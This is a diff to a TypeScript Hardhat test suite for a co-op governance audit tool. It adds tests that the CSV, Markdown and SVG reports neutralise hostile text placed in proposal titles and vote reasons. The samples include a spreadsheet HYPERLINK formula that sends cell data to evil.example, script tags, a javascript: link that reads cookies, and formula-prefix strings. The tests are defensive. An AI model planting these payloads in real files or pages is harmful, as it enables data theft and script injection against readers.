@@ -4,26 +4,32 @@
  * contracts' back or when the history it is fed is truncated, reordered or missing a log.
  */
 import { spawn } from "node:child_process";
+import { createServer } from "node:http";
+import type { AddressInfo } from "node:net";
 import { access, mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
 import { tmpdir } from "node:os";
 import { dirname, join } from "node:path";
 import { fileURLToPath } from "node:url";
 
 import { expect } from "chai";
+import { parse } from "csv-parse/sync";
 import { AbiCoder, keccak256, toBeHex, zeroPadValue } from "ethers";
 import { network } from "hardhat";
+import { JSDOM } from "jsdom";
+import { micromark } from "micromark";
 
 import type { Deployment } from "../../lib/deployment.ts";
 import { IncompleteHistoryError } from "../../lib/replay/stream.ts";
-import { proposalTitle } from "../../lib/replay/view.ts";
+import { proposalTitle, toJson } from "../../lib/replay/view.ts";
 import { voteCost } from "../../lib/quadratic.ts";
-import { fetchLogChunks, type LogChunk } from "../../scripts/lib/audit/fetch-logs.ts";
-import { REPORT_FILES } from "../../scripts/lib/audit/report.ts";
+import { fetchLogChunks, type LogChunk } from "../../lib/logs.ts";
+import { REPORT_FILES, chartSvg } from "../../scripts/lib/audit/report.ts";
 import {
   AuditInputError,
   loadCoopAbis,
   runAudit,
   type AuditOptions,
+  type AuditResult,
   type LogSource,
 } from "../../scripts/lib/audit/run.ts";
 import { deployCoop } from "../../scripts/lib/deploy-coop.ts";
@@ -204,20 +210,31 @@ describe("Audit of the seeded demo co-op", function () {
     const model = JSON.parse(await readFile(join(out, "model.json"), "utf8"));
     expect(model.ok).to.equal(true);
     expect(model.model.proposals).to.have.length(bakery.proposals.length);
-    const votes = (await readFile(join(out, "votes.csv"), "utf8")).trim().split("\n");
+    const csv = async (file: string) => parse(await readFile(join(out, file), "utf8")) as string[][];
+    const votes = await csv("votes.csv");
     const castVotes = bakery.proposals.reduce((n, p) => n + p.votes.length, 0);
     expect(votes).to.have.length(castVotes + 1);
-    const ledger = await readFile(join(out, "credit-ledger.csv"), "utf8");
-    expect(ledger.split("\n")[0]).to.equal("block,time,transaction,member,kind,change,balance,epoch,proposal");
+    const ledger = await csv("credit-ledger.csv");
+    expect(ledger[0]).to.deep.equal([
+      "block",
+      "time",
+      "transaction",
+      "member",
+      "kind",
+      "change",
+      "balance",
+      "epoch",
+      "proposal",
+    ]);
     // Patronage: every entry, and every contributor's share of the pot with what they claimed.
-    const contributions = (await readFile(join(out, "contributions.csv"), "utf8")).trim().split("\n");
+    const contributions = await csv("contributions.csv");
     expect(contributions).to.have.length(model.model.patronage.entries.length + 1);
-    expect(contributions[1]).to.match(
-      /^1,0,\d+,0x[0-9a-fA-F]{40},maintenance,10,0x[0-9a-f]{64},ipfs:\/\/hearth\/oven-repair,1,1,#\d+,validated,,/,
+    expect(contributions[1].slice(0, 13).join(",")).to.match(
+      /^1,0,\d+,0x[0-9a-fA-F]{40},maintenance,10,0x[0-9a-f]{64},ipfs:\/\/hearth\/oven-repair,1,1,#\d+,validated,$/,
     );
-    const payouts = (await readFile(join(out, "payouts.csv"), "utf8")).trim().split("\n");
-    expect(payouts[0]).to.equal("pot,period,token,kind,card,account,units,share,paid,block,transaction");
-    expect(payouts.slice(1).map((row) => row.split(",")[8])).to.have.members([
+    const payouts = await csv("payouts.csv");
+    expect(payouts[0].join(",")).to.equal("pot,period,token,kind,card,account,units,share,paid,block,transaction");
+    expect(payouts.slice(1).map((row) => row[8])).to.have.members([
       "52631578947368421",
       "0",
       "210526315789473684",
@@ -226,14 +243,14 @@ describe("Audit of the seeded demo co-op", function () {
     ]);
     expect(markdown).to.include("## Contribution periods").and.include("## Pots and payouts");
     // Every event in chain order, each naming its proposal and member where it has one.
-    const events = (await readFile(join(out, "events.csv"), "utf8")).trim().split("\n");
-    expect(events[0]).to.equal("block,log,time,transaction,contract,event,proposal,member");
+    const events = await csv("events.csv");
+    expect(events[0].join(",")).to.equal("block,log,time,transaction,contract,event,proposal,member");
     expect(events).to.have.length(model.model.events + 1);
-    const voteRows = events.filter((row) => /,MutualGovernor,VoteCast(WithParams)?,/.test(row));
+    const voteRows = events.filter((row) => row[4] === "MutualGovernor" && /^VoteCast(WithParams)?$/.test(row[5]));
     expect(voteRows).to.have.length(castVotes);
     // The same votes as votes.csv, in the same order: transaction, proposal and voter.
-    expect(voteRows.map((row) => row.split(",").filter((_, i) => i === 3 || i === 6 || i === 7))).to.deep.equal(
-      votes.slice(1).map((row) => row.split(",").filter((_, i) => i === 2 || i === 3 || i === 4)),
+    expect(voteRows.map((row) => [row[3], row[6], row[7]])).to.deep.equal(
+      votes.slice(1).map((row) => [row[2], row[3], row[4]]),
     );
   });
 });
@@ -395,6 +412,89 @@ describe("Audit: patronage state rewritten behind the contracts' back is reporte
   });
 });
 
+describe("Audit: hostile text in proposals and votes cannot act in the report", function () {
+  // A member's words reach the report through real governance: a proposal's title, and the reasons given with votes.
+  const title = `=HYPERLINK("https://evil.example/?d="&A1,"Open") | <script>alert(1)</script> [details](javascript:alert(document.cookie)) ![x](https://evil.example/x.png)`;
+  const formulas = ["=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1"];
+  const ordinary = ['Fine by me, with "quotes"', "a-b=c; 2+2 @ noon"];
+
+  it("writes every prefix (= + - @ tab CR) in the CSV with a leading quote, every field quoted, and ordinary values as they were", async function () {
+    await tampered(async () => {
+      const voters = bakery.members.slice(0, formulas.length + ordinary.length);
+      const signer = (m: (typeof voters)[number]) => ethers.getSigner(hardhatAccount(m.account));
+      const targets = [deployment.contracts.TimelockController];
+      const description = `# ${title}\n\nA proposal whose title and votes carry formulas and markup.`;
+      const governor = coop.governor.connect(await signer(voters[0]));
+      await (await governor.propose(targets, [0n], ["0x"], description)).wait();
+      const id = await coop.governor.hashProposal(targets, [0n], ["0x"], ethers.id(description));
+      await connection.networkHelpers.time.increaseTo((await coop.governor.proposalSnapshot(id)) + 1n);
+      const reasons = [...formulas, ...ordinary];
+      for (const [i, reason] of reasons.entries()) {
+        await (await coop.governor.connect(await signer(voters[i])).castVoteWithReason(id, 1, reason)).wait();
+      }
+      const out = join(work, "hostile");
+      const { code, stdout } = await auditInto(out);
+      expect(code, stdout).to.equal(0);
+
+      const proposals = parse(await readFile(join(out, "proposals.csv"), "utf8"), { columns: true }) as Record<
+        string,
+        string
+      >[];
+      expect(proposals.find((p) => p.id === `${id}`)!.title).to.equal(`'${title}`);
+      const votesText = await readFile(join(out, "votes.csv"), "utf8");
+      const votes = parse(votesText, { columns: true }) as Record<string, string>[];
+      const given = votes.filter((v) => v.proposal === `${id}`).map((v) => v.reason);
+      expect(given).to.deep.equal([...formulas.map((f) => `'${f}`), ...ordinary]);
+      // Every field of every row is quoted, and no cell of any file starts a formula.
+      for (const line of votesText.trimEnd().split(/\n(?=")/))
+        expect(line).to.match(/^"(?:[^"]|"")*"(?:,"(?:[^"]|"")*")*$/s);
+      for (const file of REPORT_FILES.filter((f) => f.endsWith(".csv"))) {
+        const rows = parse(await readFile(join(out, file), "utf8")) as string[][];
+        for (const cell of rows.flat()) expect(/^[=+@\t\r]|^-(?!\d+$)/.test(cell), `${file}: ${cell}`).to.equal(false);
+      }
+      // The audit's own numbers are left alone: a vote's credit change is negative, unquoted inside its quotes.
+      const ledger = parse(await readFile(join(out, "credit-ledger.csv"), "utf8"), { columns: true }) as Record<
+        string,
+        string
+      >[];
+      expect(ledger.filter((c) => c.kind === "vote").map((c) => c.change)).to.include("-1");
+      expect(votes.find((v) => v.proposal === `${id}`)!.block).to.match(/^\d+$/);
+    });
+  });
+
+  it("escapes the title in report.md: one table row of eight cells, no script, link or image even for a renderer that allows HTML", async function () {
+    await tampered(async () => {
+      const proposer = await ethers.getSigner(hardhatAccount(bakery.members[0].account));
+      const targets = [deployment.contracts.TimelockController];
+      const description = `# ${title}\n\nbody`;
+      await (await coop.governor.connect(proposer).propose(targets, [0n], ["0x"], description)).wait();
+      const out = join(work, "hostile-md");
+      const { code, stdout } = await auditInto(out);
+      expect(code, stdout).to.equal(0);
+      const markdown = await readFile(join(out, "report.md"), "utf8");
+      const row = markdown.split("\n").find((line) => line.includes("HYPERLINK"))!;
+      // Cells are split by unescaped bars only: | # | Title | State | For | Against | Voters | Quorum | Deposit |
+      expect(row.split(/(?<!\\)\|/)).to.have.length(10);
+      const html = micromark(row, { allowDangerousHtml: true, allowDangerousProtocol: true });
+      expect(html).not.to.match(/<script|<img|<a\b/i);
+      expect(html).to.include(
+        "=HYPERLINK(&quot;https://evil.example/?d=&quot;&amp;A1,&quot;Open&quot;) | &lt;script&gt;alert(1)&lt;/script&gt; [details](javascript:alert(document.cookie)) ![x](https://evil.example/x.png)",
+      );
+    });
+  });
+
+  it("escapes what the chart embeds as XML: a state holding & < > \" ' leaves chart.svg well-formed and reads back as written", async function () {
+    const { view } = await audit();
+    const hostile = `Active</text><script>alert("1")</script><text a='b'>&amp;`;
+    const svg = chartSvg({ ...view, proposals: view.proposals.map((p) => ({ ...p, state: hostile as never })) });
+    const doc = new new JSDOM().window.DOMParser().parseFromString(svg, "image/svg+xml");
+    expect(doc.getElementsByTagName("parsererror")).to.have.length(0);
+    expect(doc.getElementsByTagName("script")).to.have.length(0);
+    const states = [...doc.getElementsByTagName("text")].filter((t) => t.textContent === hostile);
+    expect(states).to.have.length(view.proposals.length);
+  });
+});
+
 describe("Audit: a history that is not whole is refused", function () {
   /** The node's history in ranges of 8 blocks, passed through `change`. */
   const altered = (change: (chunks: LogChunk[]) => LogChunk[]): LogSource =>
@@ -472,6 +572,118 @@ describe("Audit: a history that is not whole is refused", function () {
       rebuilt: `${onChain - votes}`,
       chain: `${onChain}`,
     });
+  });
+});
+
+describe("Audit through a public endpoint's limits: rate limits and an eth_getLogs range limit", function () {
+  /**
+   * A real HTTP proxy in front of the test chain, as a public provider behaves: it refuses eth_getLogs over more
+   * than 10 blocks with `rangeError`, and answers the first request and the first eth_getLogs with HTTP 429 and a
+   * Retry-After of one second. It counts what it was asked.
+   */
+  async function startProvider(rangeError: { code: number; message: string }) {
+    const getLogs: { width: number; refused: boolean }[] = [];
+    let requests = 0;
+    let limited = 0;
+    let firstGetLogs = true;
+    const proxy = createServer((req, res) => {
+      let body = "";
+      req.on("data", (chunk) => (body += chunk));
+      req.on("end", async () => {
+        requests++;
+        const call = JSON.parse(body) as {
+          id: number;
+          method: string;
+          params: [{ fromBlock: string; toBlock: string }];
+        };
+        const rateLimited = requests === 1 || (call.method === "eth_getLogs" && firstGetLogs);
+        if (call.method === "eth_getLogs") firstGetLogs = false;
+        if (rateLimited) {
+          limited++;
+          res
+            .writeHead(429, { "content-type": "application/json", "retry-after": "1" })
+            .end(JSON.stringify({ jsonrpc: "2.0", id: call.id, error: { code: 429, message: "Too Many Requests" } }));
+          return;
+        }
+        if (call.method === "eth_getLogs") {
+          const width = Number(call.params[0].toBlock) - Number(call.params[0].fromBlock) + 1;
+          getLogs.push({ width, refused: width > 10 });
+          if (width > 10) {
+            res
+              .writeHead(200, { "content-type": "application/json" })
+              .end(JSON.stringify({ jsonrpc: "2.0", id: call.id, error: rangeError }));
+            return;
+          }
+        }
+        const answer = await fetch(RPC, { method: "POST", headers: { "content-type": "application/json" }, body });
+        res.writeHead(answer.status, { "content-type": "application/json" }).end(await answer.text());
+      });
+    });
+    await new Promise<void>((resolve) => proxy.listen(0, "127.0.0.1", resolve));
+    const url = `http://127.0.0.1:${(proxy.address() as AddressInfo).port}`;
+    return {
+      url,
+      getLogs,
+      counts: () => ({ requests, limited }),
+      close: () => new Promise<void>((resolve) => proxy.close(() => resolve())),
+    };
+  }
+
+  /** What the audit concluded, as JSON: the same whichever way the chain was read. */
+  const conclusion = (r: AuditResult) =>
+    toJson({
+      ok: r.ok,
+      head: r.head,
+      checks: r.checks,
+      historical: r.historical,
+      mismatches: r.mismatches,
+      findings: r.findings,
+      treasury: r.treasury,
+      view: r.view,
+    });
+
+  it("learns the 10-block limit a refusal names from one refusal, is refused no more, waits out each 429, and concludes as without the proxy", async function () {
+    const provider = await startProvider({ code: -32600, message: "exceed maximum block range: 10" });
+    try {
+      const direct = await audit();
+      const proxied = await audit({ rpcUrl: provider.url });
+      expect(conclusion(proxied)).to.equal(conclusion(direct));
+      const blocks = direct.head.blockNumber - deployment.deployBlock + 1;
+      // One refusal (the first range), then ranges of 10 to the head, none refused.
+      expect(provider.getLogs.filter((r) => r.refused)).to.have.length(1);
+      expect(provider.getLogs[0].refused).to.equal(true);
+      expect(provider.getLogs.slice(1).every((r) => !r.refused)).to.equal(true);
+      expect(provider.getLogs).to.have.length(1 + Math.ceil(blocks / 10));
+      // The chain-id probe and the first eth_getLogs were rate-limited once each, and asked again after the wait.
+      expect(provider.counts().limited).to.equal(2);
+      expect(proxied.rpcRetries).to.equal(direct.rpcRetries + 1);
+    } finally {
+      await provider.close();
+    }
+  });
+
+  it("closes in on a limit a refusal does not name, by halving, then is refused no more, and concludes as without the proxy", async function () {
+    const provider = await startProvider({ code: -32602, message: "block range is too wide" });
+    try {
+      const direct = await audit();
+      const proxied = await audit({ rpcUrl: provider.url });
+      expect(conclusion(proxied)).to.equal(conclusion(direct));
+      const refusals = provider.getLogs.map((r, i) => (r.refused ? i : -1)).filter((i) => i >= 0);
+      const last = refusals.at(-1)!;
+      // A handful of refusals while closing in (halving from the whole history, then between 10 and 11 wide)…
+      expect(refusals.length).to.be.within(2, Math.ceil(Math.log2(provider.getLogs[0].width)) + 3);
+      // …and from then on none refused: once a range of 10 is accepted, every range is 10 (the last one up to the head).
+      const after = provider.getLogs.slice(last + 1);
+      expect(after.every((r) => !r.refused && r.width <= 10)).to.equal(true);
+      const learnt = after.slice(
+        after.findIndex((r) => r.width === 10),
+        -1,
+      );
+      expect(learnt.length).to.be.greaterThan(5);
+      expect(learnt.every((r) => r.width === 10)).to.equal(true);
+    } finally {
+      await provider.close();
+    }
   });
 });
 
